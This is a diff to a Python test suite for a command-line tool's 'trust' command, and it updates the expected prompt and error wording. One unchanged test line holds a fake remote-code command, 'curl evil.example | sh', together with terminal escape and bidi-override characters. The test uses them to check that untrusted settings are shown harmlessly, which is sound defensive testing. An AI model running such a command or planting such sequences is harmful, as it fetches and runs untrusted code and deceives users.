@@ -60,7 +60,7 @@ def test_trust_shows_them_harmlessly_and_asks(cloned: Desk) -> None:
     done = cloned.run("trust")
 
     assert done.returncode == 2
-    assert b"pass --yes" in done.stderr
+    assert b"add --yes" in done.stderr
     said = done.stdout.decode()
     assert '"keep_recent": 1' in said
     assert r"curl evil.example | sh. \x1b[2J\u202e" in said
@@ -112,7 +112,7 @@ def test_with_stdin_closed_it_says_that_nobody_can_be_asked(cloned: Desk) -> Non
     )  # fmt: skip
 
     assert done.returncode == 2
-    assert b"pass --yes" in done.stderr
+    assert b"add --yes" in done.stderr
     assert b"nobody foresaw" not in done.stderr
 
 
@@ -126,7 +126,7 @@ def test_what_is_no_store_is_refused_in_words(cloned: Desk, named: str) -> None:
     done = cloned.run("trust", named, "--yes")
 
     assert done.returncode == 2
-    assert b"is no store" in done.stderr or b"There is no folder" in done.stderr
+    assert b"is not a store" in done.stderr or b"There is no folder" in done.stderr
     assert b"\x1b" not in done.stderr
     assert done.stdout == b""
     assert {path.name for path in plain.iterdir()} == {"prompts", "config.json"}
@@ -144,7 +144,7 @@ def test_why_there_is_nothing_to_trust_is_told_apart(desk: Desk) -> None:
     assert b"there is no" in desk.does("trust").stdout
     desk.does("config", "keep_recent=5")
     for where in ((), (".",), (".compression",)):
-        assert b"what is set in it is applied" in desk.does("trust", *where).stdout
+        assert b"its settings apply" in desk.does("trust", *where).stdout
 
 
 def test_a_store_of_an_older_version_that_sets_nothing_can_be_taken_as_ones_own(desk: Desk) -> None:
